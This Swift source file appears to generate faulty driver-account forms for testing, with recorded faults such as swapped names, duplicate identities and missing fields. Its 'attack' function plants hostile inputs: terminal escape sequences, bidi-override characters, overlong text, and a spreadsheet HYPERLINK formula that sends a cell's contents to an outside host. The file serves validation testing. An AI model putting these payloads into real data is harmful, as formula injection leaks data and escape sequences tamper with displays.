import Casework

/// A form that is being spoilt: each function puts in one fault and notes it. A field takes one fault at most, so that every planted
/// fault can be seen.
struct FaultyForm {
  let driver: Int
  var form: AccountForm
  var faults: [PlantedFault] = []
  private var spoilt: Set<AccountField> = []

  init(_ profile: DriverProfile) {
    driver = profile.index
    form = AccountForm(profile)
  }

  /// Whether these fields are still as they should be.
  private func isClean(_ fields: AccountField...) -> Bool { spoilt.isDisjoint(with: fields) }

  private mutating func plant(
    _ field: AccountField, _ text: String, _ reason: String, _ kind: PlantedFault.Kind, refusal: String? = nil
  ) {
    form[field] = text
    spoilt.insert(field)
    faults.append(
      PlantedFault(driver: driver, item: field.rawValue, reason: refusal == nil ? reason : nil, refusal: refusal, kind: kind))
  }

  /// `13AA00001` for the NEPH: only a French licence has both numbers.
  mutating func typeTitleNumber(_ profile: DriverProfile, _ generator: inout SeededGenerator) {
    let letters = Array("ABCDEFGHJKLMNPRSTVWXYZ").map { String($0) }
    let year = max(13, profile.licenceIssueDate.year - 2000)
    let number = "\(padded(year, to: 2))\(generator.pick(letters))\(generator.pick(letters))\(padded(generator.below(100_000), to: 5))"
    guard isClean(.licenceNumber), !profile.isForeignLicence else { return }
    plant(.licenceNumber, number, "title_number_used", .titleNumber)
  }

  /// A slip in the place of birth that no check can see; false where the field bears another fault already.
  mutating func misspellBirthPlace() -> Bool {
    guard isClean(.birthPlace), form[.birthPlace].count > 3 else { return false }
    form[.birthPlace] = Cast.misspelt(form[.birthPlace], 1)
    spoilt.insert(.birthPlace)
    return true
  }

  mutating func swapNames() {
    guard isClean(.lastName, .firstNames) else { return }
    let (last, first) = (form[.lastName], form[.firstNames])
    form[.firstNames] = last
    spoilt.insert(.firstNames)
    plant(.lastName, first, "names_swapped", .namesSwapped)
  }

  mutating func useUsageName(_ profile: DriverProfile) {
    guard isClean(.lastName), !profile.usageName.isEmpty else { return }
    plant(.lastName, profile.usageName, "usage_name_used", .usageName)
  }

  /// The identity of somebody who has an account, with another e-mail and phone: most often under the same licence, sometimes under a
  /// new one (exchanged, or typed wrong the first time).
  mutating func takeIdentity(of other: DriverProfile, _ generator: inout SeededGenerator) {
    let sameLicence = generator.chance(0.7)
    let own = (form[.licenceNumber], form[.licenceCountry], form[.email], form[.phone])
    form = AccountForm(other)
    (form[.email], form[.phone]) = (own.2, own.3)
    spoilt.formUnion([.lastName, .firstNames, .birthDate, .licenceNumber])
    if sameLicence {
      plant(.licenceNumber, other.licenceNumber, "duplicate_account", .duplicate)
    } else {
      (form[.licenceNumber], form[.licenceCountry]) = (own.0, own.1)
      plant(.lastName, other.lastName, "duplicate_account", .duplicate)
    }
  }

  mutating func leaveAddressIncomplete(_ profile: DriverProfile, _ generator: inout SeededGenerator) {
    let choice = generator.below(4)
    guard isClean(.postalAddress) else { return }
    plant(.postalAddress, Self.incomplete(profile.address, choice), "incomplete_address", .incompleteAddress)
  }

  /// An address that lacks its postcode, its street, or everything but the town.
  static func incomplete(_ address: PostalAddress, _ choice: Int) -> String {
    let last = address.lastLine
    let town = String(last.dropFirst(6))
    switch choice {
    case 0: return (address.lines.dropLast() + [town]).joined(separator: "\n")
    case 1: return [address.lines[0], last].joined(separator: "\n")
    case 2: return town
    default: return address.lines.dropLast().joined(separator: "\n")
    }
  }

  mutating func leaveOut(_ generator: inout SeededGenerator) {
    let field = generator.pick([AccountField.birthPlace, .licenceIssueDate, .phone, .postalAddress, .licenceCountry])
    guard isClean(field) else { return }
    plant(field, "", "missing", .missing)
  }

  mutating func mistype(_ profile: DriverProfile, today: Day, _ generator: inout SeededGenerator) {
    let (field, text, reason) = TypingError.draw(profile, today: today, &generator)
    guard isClean(field) else { return }
    plant(field, text, reason, .typing)
  }

  /// Text meant to harm whoever displays or exports it. What `hub` refuses outright bears the SQLSTATE expected.
  mutating func attack(_ profile: DriverProfile, _ generator: inout SeededGenerator) {
    let choice = generator.below(5)
    let field = generator.pick([AccountField.lastName, .firstNames, .birthPlace])
    guard isClean(field) else { return }
    let text = form[field]
    switch choice {
    case 0: plant(field, "\u{1B}[2J\u{1B}]0;\(text)\u{07}", "invalid_format", .hostileEscape, refusal: "PU061")
    case 1: plant(field, "\u{202E}\(text)\u{2066} \u{200B}", "invalid_format", .hostileBidi)
    case 2: plant(field, "=HYPERLINK(\"http://example.com/?\"&A1;\"\(text)\")", "invalid_format", .hostileFormula)
    case 3: plant(field, String(repeating: text + " ", count: 4000), "invalid_format", .hostileLong, refusal: "PU060")
    default: plant(field, "\(text) 👨‍👩‍👧‍👦🚚🇫🇷", "invalid_format", .hostileEmoji)
    }
  }
}
